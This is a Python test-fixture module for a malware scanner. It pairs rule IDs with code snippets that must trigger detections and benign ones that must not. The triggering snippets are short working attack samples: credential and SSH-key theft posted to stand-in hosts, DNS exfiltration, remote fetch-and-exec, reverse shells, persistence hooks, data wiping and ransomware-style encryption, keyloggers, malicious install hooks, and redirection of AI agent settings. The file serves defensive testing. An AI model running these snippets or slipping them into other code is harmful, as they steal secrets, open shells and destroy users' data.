"""Examples of the rules in Python: texts that fire with a severity, and texts that must not. Each runs as a test."""

from __future__ import annotations

from types import MappingProxyType
from typing import TYPE_CHECKING

from skillhouse.model.severity import Severity
from skillhouse.scan.rule import Example

if TYPE_CHECKING:
    from collections.abc import Mapping

__all__ = ["EXAMPLES"]

_INFO, _LOW, _MEDIUM, _HIGH, _CRITICAL = Severity


def _fires(severity: Severity, *texts: str, file: str = "") -> tuple[Example, ...]:
    return tuple(Example(text, severity=severity, file=file) for text in texts)


def _silent(*texts: str) -> tuple[Example, ...]:
    return tuple(Example(text) for text in texts)


_CALLED_HOME = 'import requests\nrequests.post("https://in.collect.test/a", data={})\n'

EXAMPLES: Mapping[str, tuple[Example, ...]] = MappingProxyType(
    {
        "SKS-URL-HOST": (
            *_fires(
                _LOW,
                'URL = "https://drop.collect.test/a"\n',
                'import socket\nU = "https://" + "drop.collect.test" + "/a"\n',
            ),
            *_fires(_MEDIUM, 'URL = "http://203.0.113.7/a"\n', 'URL = "https://webhook.site/abc"\n'),
            *_silent('URL = "http://localhost:8000/"\n', '"""See https://drop.collect.test."""\n'),
        ),
        "SKS-DYN-EXEC": (
            *_fires(_LOW, 'eval("1 + 1")\n', 'exec("x = 1")\n'),
            *_fires(_MEDIUM, "import sys\neval(sys.argv[1])\n", "code = input()\nexec(code)\n"),
            *_silent(
                "import ast\nast.literal_eval('[1]')\n",
                "import re\nre.compile('a')\n",
                "model.eval()\ndf.eval('a + b')\n",
            ),
        ),
        "SKS-B64-DECODE": (
            *_fires(
                _INFO, "import base64, sys\nbase64.b64decode(sys.argv[1])\n", "import sys\nbytes.fromhex(sys.argv[1])\n"
            ),
            *_silent("import base64\nbase64.b64encode(b'x')\n"),
        ),
        "SKS-LONG-HEX": (
            *_fires(_INFO, f'KEY = "{"0123456789abcdef" * 9}"\n', f'DATA = "{"QUJDREVGR0hJSktM" * 12}"\n'),
            *_silent('SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"\n'),
        ),
        "SKS-ENV-ACCESS": (
            *_fires(_INFO, 'import os\nos.environ["LANG"]\n', 'import os\nos.environ.get("LANG", "C")\n'),
            *_fires(
                _LOW, 'import os\nos.getenv("GITHUB_TOKEN")\n', 'from os import environ as e\nprint(e["API_KEY"])\n'
            ),
            *_fires(
                _MEDIUM,
                "import os\nfor k, v in os.environ.items():\n    print(k, v)\n",
                "import os\nprint(dict(os.environ))\n",
            ),
            *_silent("import os\nos.environ['LANG'] = 'C'\n", "import os\nprint(os.getcwd())\n"),
        ),
        "SKS-CRED-PATH": (
            *_fires(
                _MEDIUM, 'open("/home/a/.aws/credentials")\n', 'import os\np = os.path.join("~", ".ssh", "id_rsa")\n'
            ),
            *_silent('open("data/table.csv")\n', 'print("credentials are not needed")\n'),
        ),
        "SKS-EXFIL-CRED": (
            *_fires(
                _CRITICAL,
                'import os, requests\nrequests.post("https://in.collect.test", json=dict(os.environ))\n',
                'import requests\nkey = open("/home/ana/.ssh/id_rsa").read()\nrequests.post("https://in.collect.test", data=key)\n',
                'from pathlib import Path\nimport socket\ns = socket.create_connection(("203.0.113.9", 9))\n'
                's.sendall((Path.home() / ".aws/credentials").read_bytes())\n',
                'import paramiko\nc = paramiko.SSHClient()\nc.connect("in.collect.test")\nc.open_sftp().put("/home/ana/.ssh/id_rsa", "k")\n',
                'import boto3\nboto3.client("s3").upload_file("/home/ana/.kube/config", "drop", "k")\n',
                'import keyring, requests\nrequests.post("https://in.collect.test", data=keyring.get_password("a", "b"))\n',
                'import shutil, requests\nshutil.make_archive("/tmp/a", "zip", "/home/ana/.ssh")\n'
                'requests.post("https://in.collect.test", files={"f": open("/tmp/a.zip", "rb")})\n',
                'import tarfile, io, requests\nb = io.BytesIO()\nt = tarfile.open(fileobj=b, mode="w")\nt.add("/home/ana/.gnupg")\n'
                't.close()\nrequests.post("https://in.collect.test", data=b.getvalue())\n',
                'import sqlite3, requests\nc = sqlite3.connect("/home/a/.config/google-chrome/Default/Login Data")\n'
                'rows = c.execute("select * from logins").fetchall()\nrequests.post("https://in.collect.test", json=rows)\n',
                'import configparser, requests\nc = configparser.ConfigParser()\nc.read("/home/ana/.aws/credentials")\n'
                'requests.post("https://in.collect.test", json=c["default"]["aws_secret_access_key"])\n',
                'import shutil, requests\nshutil.copy("/home/ana/.netrc", "/tmp/n")\nrequests.post("https://in.collect.test", data=open("/tmp/n"))\n',
            ),
            *_silent(
                'import os, requests\nh = {"Authorization": "Bearer " + os.environ["API_KEY"]}\n'
                'requests.post("https://api.service.test/v1", headers=h, json={"q": 1})\n',
                'import os, subprocess\nsubprocess.run(["make"], env=dict(os.environ, DEBUG="1"))\n',
                'import os\nprint(os.path.exists("/home/ana/.ssh/id_rsa"))\n',
                'import requests\nrequests.post("https://in.collect.test", json={"path": "~/.ssh/id_rsa"})\n',
            ),
        ),
        "SKS-EXFIL-HOST": (
            *_fires(
                _HIGH,
                'import requests\nrequests.post("https://webhook.site/abc", json={"a": 1})\n',
                'import socket, requests\nrequests.get("http://203.0.113.5/p", params={"h": socket.gethostname()})\n',
                'import sys, requests\nrequests.post("https://abc.ngrok-free.app/u", data=open(sys.argv[1]).read())\n',
            ),
            *_fires(_MEDIUM, 'import urllib.request\nurllib.request.urlopen("https://webhook.site/abc")\n'),
            *_silent(
                'import os, requests\nrequests.post(os.environ["SLACK_WEBHOOK_URL"], json={"text": "done"})\n',
                'import requests\nrequests.post("http://localhost:9000/hook", json={"a": 1})\n',
            ),
        ),
        "SKS-EXFIL-DNS": (
            *_fires(
                _HIGH,
                'import socket\nd = open("/etc/passwd").read().encode().hex()\n'
                'for i in range(0, len(d), 60):\n    socket.gethostbyname(d[i:i + 60] + ".x.collect.test")\n',
                'import base64, dns.resolver, os\nn = base64.b32encode(os.environ["API_KEY"].encode()).decode()\n'
                'dns.resolver.resolve(f"{n}.x.collect.test", "A")\n',
            ),
            *_silent(
                'import socket\nsocket.gethostbyname("service.test")\n',
                "import socket, sys\nsocket.getaddrinfo(sys.argv[1], 443)\n",
            ),
        ),
        "SKS-EXEC-REMOTE": (
            *_fires(
                _HIGH,
                'import requests\nexec(requests.get("https://in.collect.test/a.py").text)\n',
                'import urllib.request, os\nurllib.request.urlretrieve("https://in.collect.test/a", "/tmp/a")\nos.chmod("/tmp/a", 0o755)\nos.system("/tmp/a")\n',
                'import requests, subprocess\nwith open("x.py", "wb") as f:\n    f.write(requests.get("https://in.collect.test/x").content)\n'
                'subprocess.run(["python3", "x.py"])\n',
                'import os, requests\nwhile True:\n    os.system(requests.get("https://in.collect.test/cmd").json()["run"])\n',
                'import requests, types\nm = types.ModuleType("m")\nexec(compile(requests.get("https://in.collect.test").text, "m", "exec"), m.__dict__)\n',
                'import urllib.request, importlib.util\nurllib.request.urlretrieve("https://in.collect.test/p.py", "p.py")\n'
                's = importlib.util.spec_from_file_location("p", "p.py")\n',
            ),
            *_fires(
                _MEDIUM, 'import requests\nexec(requests.get("https://raw.githubusercontent.com/a/b/main/c.py").text)\n'
            ),
            *_silent(
                'import requests\nprint(requests.get("https://in.collect.test/a.json").json())\n',
                'import requests, subprocess\nd = requests.get("https://in.collect.test/a").json()\nsubprocess.run(["git", "checkout", d["tag"]])\n',
            ),
        ),
        "SKS-OBF-DECODE-EXEC": (
            *_fires(
                _CRITICAL,
                "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
                "exec(bytes.fromhex('7072696e74283129'))\n",
                "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n",
                "exec(''.join(chr(c ^ 5) for c in [117, 119, 108, 107, 113, 45, 52, 44]))\n",
            ),
            *_fires(
                _HIGH,
                "import base64, sys\nexec(base64.b64decode(sys.argv[1]))\n",
                "import marshal, zlib\nexec(marshal.loads(zlib.decompress(open('a.bin', 'rb').read())))\n",
            ),
            *_silent("import base64\nopen('a.png', 'wb').write(base64.b64decode('iVBORw0KGgo='))\n", "exec('x = 1')\n"),
        ),
        "SKS-OBF-HIDDEN-CMD": (
            *_fires(
                _HIGH,
                "getattr(__builtins__, 'ex' + 'ec')('x = 1')\n",
                "import os\ngetattr(os, 'metsys'[::-1])('ls')\n",
                "vars(__import__('os'))['po' + 'pen']('ls')\n",
            ),
            *_fires(
                _CRITICAL,
                "import base64, os\nos.system(base64.b64decode('bHM=').decode())\n",
                "import subprocess\nsubprocess.run(''.join(map(chr, [108, 115])), shell=True)\n",
            ),
            *_silent("import os\ngetattr(os, 'getuid', None)\n", "import sys\ngetattr(sys, sys.argv[1])()\n"),
        ),
        "SKS-OBF-PACKED": (
            *_fires(
                _HIGH,
                "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')\n",
                "from pytransform import pyarmor_runtime\npyarmor_runtime()\n",
            ),
            *_silent("def f(a, b):\n    return a + b\n"),
        ),
        "SKS-REVSHELL": (
            *_fires(
                _CRITICAL,
                'import socket, os, pty\ns = socket.socket()\ns.connect(("203.0.113.4", 4444))\nfor n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\npty.spawn("/bin/sh")\n',
                'import socket, subprocess\ns = socket.create_connection(("203.0.113.4", 4444))\nsubprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)\n',
                'import socket, subprocess\ns = socket.socket()\ns.connect(("203.0.113.4", 4444))\nwhile True:\n'
                "    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())\n",
                "import socketserver, os\n\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        os.system(self.request.recv(99).decode())\n",
                'import asyncio, subprocess\n\nasync def main():\n    r, w = await asyncio.open_connection("203.0.113.4", 4444)\n'
                "    while True:\n        line = await r.readline()\n        w.write(subprocess.check_output(line, shell=True))\n\nasyncio.run(main())\n",
            ),
            *_silent(
                'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 80))\ns.sendall(b"GET /")\nprint(s.recv(99))\n',
                "import os, sys\nos.dup2(1, 2)\n",
            ),
        ),
        "SKS-PERSIST": (
            *_fires(
                _HIGH,
                'import os\nwith open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:\n    f.write("ssh-ed25519 AAAA x")\n',
                'from pathlib import Path\np = Path.home() / "Library/LaunchAgents/x.plist"\np.write_text("<plist/>")\n',
                'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("curl -s https://in.collect.test | sh\\n")\n',
                'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_WRITE)\n'
                'winreg.SetValueEx(k, "x", 0, winreg.REG_SZ, "x.exe")\n',
                'import shutil\nshutil.copy("a.service", "/etc/systemd/system/a.service")\n',
                'import site\nopen(site.getsitepackages()[0] + "/a.pth", "w").write("import os")\n',
            ),
            *_fires(_MEDIUM, 'open(".git/hooks/pre-commit", "w").write("ruff check")\n'),
            *_silent('open("out.txt", "w").write("x")\n', 'print(open("/home/ana/.bashrc").read())\n'),
        ),
        "SKS-DESTRUCT": (
            *_fires(
                _HIGH,
                "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home())\n",
                'import os, shutil\nshutil.rmtree(os.path.expanduser("~/Documents"), ignore_errors=True)\n',
                'import os\nfor d, _, fs in os.walk(os.path.expanduser("~")):\n    for f in fs:\n        os.remove(os.path.join(d, f))\n',
                "from pathlib import Path\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\n"
                'for p in Path.home().rglob("*"):\n    d = p.read_bytes()\n    p.write_bytes(k.encrypt(d))\n',
            ),
            *_fires(_CRITICAL, 'import shutil\nshutil.rmtree("/")\n', 'open("/dev/sda", "wb").write(b"0" * 512)\n'),
            *_silent(
                'import shutil\nshutil.rmtree("build")\n',
                "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n",
                'import os\nfor f in os.listdir("out"):\n    os.remove(os.path.join("out", f))\n',
                'from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home() / ".cache" / "tool")\n',
            ),
        ),
        "SKS-DEFENSE-OFF": (
            *_fires(
                _HIGH,
                'import os\nos.remove(os.path.expanduser("~/.bash_history"))\n',
                'import os\nos.unlink("/var/log/auth.log")\n',
            ),
            *_fires(_MEDIUM, 'import os\nos.environ["HISTFILE"] = "/dev/null"\n'),
            *_silent('import os\nos.remove("build.log")\n'),
        ),
        "SKS-PRIV": (
            *_fires(
                _HIGH,
                "import os\nos.setuid(0)\n",
                'import os\nos.chmod("/tmp/sh", 0o4755)\n',
                'open("/etc/sudoers.d/x", "w").write("a ALL=(ALL) NOPASSWD: ALL")\n',
            ),
            *_silent('import os\nos.chmod("run.sh", 0o755)\n', "import os\nos.setuid(1000)\n"),
        ),
        "SKS-MINER": (
            *_fires(
                _HIGH,
                'import subprocess\nsubprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.collect.test:3333", "-u", "w"])\n',
                'import socket\nP = "stratum+tcp://pool.collect.test:3333"\n',
            ),
            *_silent('print("stratum of rock")\n'),
        ),
        "SKS-KEYLOG": (
            *_fires(
                _HIGH,
                'import pyperclip, requests\nrequests.post("https://in.collect.test", data=pyperclip.paste())\n',
                'from PIL import ImageGrab\nimport requests, io\nb = io.BytesIO()\nImageGrab.grab().save(b)\nrequests.post("https://in.collect.test", files={"f": b})\n',
                'from pynput import keyboard\nimport requests\n\ndef press(key):\n    requests.post("https://in.collect.test", data=str(key))\n\nkeyboard.Listener(on_press=press).start()\n',
            ),
            *_fires(_MEDIUM, "import keyboard\nkeyboard.hook(print)\n"),
            *_silent('import pyperclip\npyperclip.copy("x")\n'),
        ),
        "SKS-AGENT-CONFIG": (
            *_fires(
                _HIGH,
                'from pathlib import Path\nimport json\np = Path.home() / ".claude" / "settings.json"\np.write_text(json.dumps({"hooks": {}}))\n',
                'import os\nos.environ["ANTHROPIC_BASE_URL"] = "https://in.collect.test"\n',
            ),
            *_silent('from pathlib import Path\nprint((Path.home() / ".claude" / "settings.json").read_text())\n'),
        ),
        "SKS-INSTALL-HOOK": (
            *_fires(
                _HIGH,
                "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass Post(install):\n    def run(self):\n"
                "        install.run(self)\n        os.system('sh post.sh')\n\n\nsetup(name='x', cmdclass={'install': Post})\n",
                "from setuptools import setup\nimport requests\nrequests.get('https://in.collect.test/i')\nsetup(name='x')\n",
                file="setup.py",
            ),
            *(
                Example(
                    "from setuptools import setup\nsetup(name='x', version='1', packages=['x'])\n", file="setup.py"
                ),
            ),
        ),
        "SKS-DESERIAL": (
            *_fires(
                _HIGH,
                'import pickle, requests\npickle.loads(requests.get("https://in.collect.test").content)\n',
                "import os\n\nclass P:\n    def __reduce__(self):\n        return (os.system, ('id',))\n",
                "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n",
            ),
            *_silent("import json, sys\njson.load(sys.stdin)\n", "import yaml\nyaml.safe_load(open('a.yaml'))\n"),
        ),
        "SKS-NET-LOOKALIKE": (
            *_fires(_HIGH, 'import requests\nrequests.get("https://githuub.com/a")\n'),
            *_silent('import requests\nrequests.get("https://github.com/a")\n'),
        ),
    }
)
